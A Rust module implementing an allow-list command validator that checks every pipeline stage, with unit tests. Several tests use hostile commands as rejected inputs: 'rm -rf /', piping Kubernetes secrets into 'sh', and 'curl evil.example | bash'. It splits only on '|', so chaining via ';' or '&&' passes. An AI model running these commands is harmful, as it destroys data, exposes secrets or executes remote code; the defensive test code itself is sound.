use std::fmt;
use thiserror::Error;
use crate::security::AllowList;

#[derive(Debug, Error)]
pub enum ValidationError {
    #[error("Command not allowed: {command} ('{executable}' is not in the allow-list)")]
    DisallowedCommand { executable: String, command: String },

    #[error("Empty command")]
    EmptyCommand,

    #[error("Allow-list must contain at least one command")]
    EmptyAllowList,
}

/// A command whose every pipeline stage starts with an allow-listed executable
///
/// Only `CommandValidator::validate` can build one. The wrapped string is
/// exactly the string that was validated.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValidatedCommand {
    command: String,
    executables: Vec<String>,
}

impl ValidatedCommand {
    pub fn as_str(&self) -> &str {
        &self.command
    }

    /// Leading executable of each non-empty stage, in pipeline order
    pub fn executables(&self) -> &[String] {
        &self.executables
    }

    pub fn into_inner(self) -> String {
        self.command
    }
}

impl fmt::Display for ValidatedCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.command)
    }
}

impl AsRef<str> for ValidatedCommand {
    fn as_ref(&self) -> &str {
        &self.command
    }
}

/// Split a command on `|` into trimmed pipeline stages
///
/// Empty stages (from `||` or a trailing pipe) are yielded as empty strings.
pub fn pipeline_stages(command: &str) -> impl Iterator<Item = &str> {
    command.split('|').map(str::trim)
}

#[derive(Debug, Clone, Default)]
pub struct CommandValidator {
    allow_list: AllowList,
}

impl CommandValidator {
    /// Validator using the compiled-in allow-list
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with_allow_list(allow_list: AllowList) -> Self {
        Self { allow_list }
    }

    pub fn allow_list(&self) -> &AllowList {
        &self.allow_list
    }

    /// Validate a candidate command
    ///
    /// Every non-empty pipeline stage must start with an executable that
    /// exactly matches an allow-list entry. Stops at the first stage that
    /// does not.
    pub fn validate(&self, command: &str) -> Result<ValidatedCommand, ValidationError> {
        let mut executables = Vec::new();

        for stage in pipeline_stages(command) {
            let Some(executable) = stage.split_whitespace().next() else {
                continue;
            };

            if !self.allow_list.contains(executable) {
                return Err(ValidationError::DisallowedCommand {
                    executable: executable.to_string(),
                    command: command.to_string(),
                });
            }

            executables.push(executable.to_string());
        }

        // A string of only whitespace and pipes has no stages to run
        if executables.is_empty() {
            return Err(ValidationError::EmptyCommand);
        }

        Ok(ValidatedCommand {
            command: command.to_string(),
            executables,
        })
    }

    pub fn is_allowed(&self, command: &str) -> bool {
        self.validate(command).is_ok()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_validate_simple_command() {
        let validator = CommandValidator::new();
        let result = validator.validate("kubectl get pods");
        assert!(result.is_ok());

        let validated = result.unwrap();
        assert_eq!(validated.as_str(), "kubectl get pods");
        assert_eq!(validated.executables(), ["kubectl"]);
    }

    #[test]
    fn test_validate_pipeline() {
        let validator = CommandValidator::new();
        let validated = validator
            .validate("kubectl get pods -A | grep Running | head -n 5")
            .unwrap();
        assert_eq!(validated.executables(), ["kubectl", "grep", "head"]);
    }

    #[test]
    fn test_validated_command_is_byte_identical() {
        let validator = CommandValidator::new();
        let command = "k  logs   deploy/web|tail -n 20";
        let validated = validator.validate(command).unwrap();
        assert_eq!(validated.as_str(), command);
        assert_eq!(validated.to_string(), command);
    }

    #[test]
    fn test_disallowed_command() {
        let validator = CommandValidator::new();
        let result = validator.validate("rm -rf /");
        match result.unwrap_err() {
            ValidationError::DisallowedCommand { executable, command } => {
                assert_eq!(executable, "rm");
                assert_eq!(command, "rm -rf /");
            }
            other => panic!("unexpected error: {:?}", other),
        }
    }

    #[test]
    fn test_disallowed_stage_after_pipe() {
        let validator = CommandValidator::new();
        let result = validator.validate("kubectl get secrets -o yaml | sh");
        assert!(matches!(
            result.unwrap_err(),
            ValidationError::DisallowedCommand { executable, .. } if executable == "sh"
        ));
    }

    #[test]
    fn test_disallowed_stage_in_middle() {
        let validator = CommandValidator::new();
        let result = validator.validate("kubectl get pods | xargs kubectl delete pod | grep deleted");
        assert!(matches!(
            result.unwrap_err(),
            ValidationError::DisallowedCommand { executable, .. } if executable == "xargs"
        ));
    }

    #[test]
    fn test_reports_first_disallowed_token() {
        let validator = CommandValidator::new();
        let result = validator.validate("curl evil.example | bash");
        assert!(matches!(
            result.unwrap_err(),
            ValidationError::DisallowedCommand { executable, .. } if executable == "curl"
        ));
    }

    #[test]
    fn test_exact_match_not_prefix() {
        let validator = CommandValidator::new();
        assert!(!validator.is_allowed("kubectlx get pods"));
        assert!(!validator.is_allowed("headless"));
        assert!(!validator.is_allowed("catastrophe"));
        assert!(!validator.is_allowed("/usr/bin/kubectl get pods"));
    }

    #[test]
    fn test_empty_command() {
        let validator = CommandValidator::new();
        assert!(matches!(validator.validate("").unwrap_err(), ValidationError::EmptyCommand));
        assert!(matches!(validator.validate("   ").unwrap_err(), ValidationError::EmptyCommand));
    }

    #[test]
    fn test_only_pipes_is_empty() {
        let validator = CommandValidator::new();
        assert!(matches!(validator.validate("|").unwrap_err(), ValidationError::EmptyCommand));
        assert!(matches!(validator.validate(" | | ").unwrap_err(), ValidationError::EmptyCommand));
    }

    #[test]
    fn test_trailing_pipe_tolerated() {
        let validator = CommandValidator::new();
        assert!(validator.is_allowed("kubectl get pods |"));
        assert!(validator.is_allowed("kubectl get pods || grep web"));
    }

    #[test]
    fn test_tabs_and_newlines_are_whitespace() {
        let validator = CommandValidator::new();
        assert!(validator.is_allowed("\tkubectl\tget pods\n|\ngrep Running"));
    }

    #[test]
    fn test_custom_allow_list() {
        let allow_list = AllowList::new(["echo"]).unwrap();
        let validator = CommandValidator::with_allow_list(allow_list);
        assert!(validator.is_allowed("echo hello"));
        assert!(!validator.is_allowed("kubectl get pods"));
    }

    #[test]
    fn test_all_default_commands_allowed() {
        let validator = CommandValidator::new();
        for cmd in crate::security::DEFAULT_ALLOWED_COMMANDS {
            let result = validator.validate(&format!("{} --help", cmd));
            assert!(result.is_ok(), "Command should be valid: {}", cmd);
        }
    }

    #[test]
    fn test_pipeline_stages() {
        let stages: Vec<&str> = pipeline_stages(" kubectl get pods |grep x| ").collect();
        assert_eq!(stages, vec!["kubectl get pods", "grep x", ""]);
    }
}
